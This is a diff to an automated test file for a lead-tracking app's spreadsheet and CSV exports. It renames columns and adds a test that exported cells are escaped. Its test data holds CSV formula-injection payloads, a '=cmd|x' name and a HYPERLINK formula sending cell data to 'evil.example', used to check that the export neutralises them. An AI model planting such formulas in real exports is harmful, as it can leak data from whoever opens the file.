@@ -13,7 +13,13 @@ const FOLLOW_UP = "2026-11-06T16:30:00+05:30";
 describe("a list of leads is exported as it is filtered (§2, §5)", () => {
   test.beforeAll(async ({ office, asha }) => {
     const [called] = await uploadLeads(office, [
-      { name: "Rohit Rao", phoneNumber: "9800000142", insuranceExpiry: "2026-11-08", telecallerName: "asha" },
+      {
+        name: "Rohit Rao",
+        vehicleType: "commercial",
+        phoneNumber: "9800000142",
+        insuranceExpiry: "2026-11-08",
+        telecallerName: "asha",
+      },
       { name: "=cmd|x", phoneNumber: "022-54425818", insuranceExpiry: "next week", telecallerName: "asha" },
       { name: "Anil Nair", insuranceExpiry: "2026-11-03", telecallerName: "bharat" },
     ]);
@@ -39,11 +45,13 @@ describe("a list of leads is exported as it is filtered (§2, §5)", () => {
       registration_number: { type: "s" },
       insurance_expiry: { type: "n", value: 46_334, shown: "08-Nov-2026" },
       Telecaller_Name: { value: "asha" },
-      status: { value: "follow_up" },
-      next_follow_up: { type: "n", shown: "06-Nov-2026 16:30" },
+      status: { value: "Follow Up" },
+      sub_status: { value: "Callback" },
+      vehicle_type: { value: "Commercial Vehicle" },
+      next_follow_up_ist: { type: "n", shown: "06-Nov-2026 16:30" },
       lead_id: { type: "n" },
     });
-    expect(first?.last_call_at?.shown).toMatch(/^05-Nov-2026 10:0/);
+    expect(first?.last_call_at_ist?.shown).toMatch(/^05-Nov-2026 10:0/);
     expect(second).toMatchObject({
       name: { type: "s", value: "=cmd|x" },
       phone_number: { type: "s", value: "022-54425818" },
@@ -58,7 +66,8 @@ describe("a list of leads is exported as it is filtered (§2, §5)", () => {
     expect(Object.keys(rows[0] ?? {}).slice(0, csvHeader.length)).toEqual(csvHeader);
     expect(rows[1]).toMatchObject({
       insurance_expiry: "2026-11-08",
-      next_follow_up: "2026-11-06T11:00:00.000Z",
+      phone_number: "9800000142",
+      next_follow_up_ist: "2026-11-06 16:30",
     });
     const namesBy = async (query: string) => (await csvOf(office, list + query)).map(({ name }) => name);
     expect(await namesBy("&sort=name&sortOrder=desc")).toEqual(["Rohit Rao", "Anil Nair", "'=cmd|x"]);
@@ -66,6 +75,20 @@ describe("a list of leads is exported as it is filtered (§2, §5)", () => {
     expect(await namesBy("&callResults=callback,follow_up")).toEqual(["Rohit Rao"]);
     expect(await namesBy("&status=pending_calls&expiryTo=2026-11-04")).toEqual(["Anil Nair"]);
     expect(await namesBy("&promised=true&telecaller=unassigned")).toEqual([]);
+  });
+
+  test("a formula over several lines is text in CSV: from a file, or in a telecaller's note", async ({
+    office,
+    asha,
+  }) => {
+    const formula = '=HYPERLINK(\n"http://evil.example/?d="&B2,"Open")';
+    const [lead] = await uploadLeads(office, [{ address: formula, telecallerName: "asha" }], "2027-02");
+    const [exported] = await csvOf(office, `/api/leads/export?campaignMonth=2027-02`);
+    expect(exported?.address).toBe(`'${formula}`);
+    await asha.records(lead, "interested", { notes: formula });
+    const day = "from=2026-11-05&to=2026-11-05";
+    const calls = await csvOf(office, `/api/figures/calls/export?${day}&format=csv`);
+    expect(calls.map(({ remark }) => remark)).toContain(`'${formula}`);
   });
 
   test("is in the audit log with its filter and its file, without the text of a search", async ({
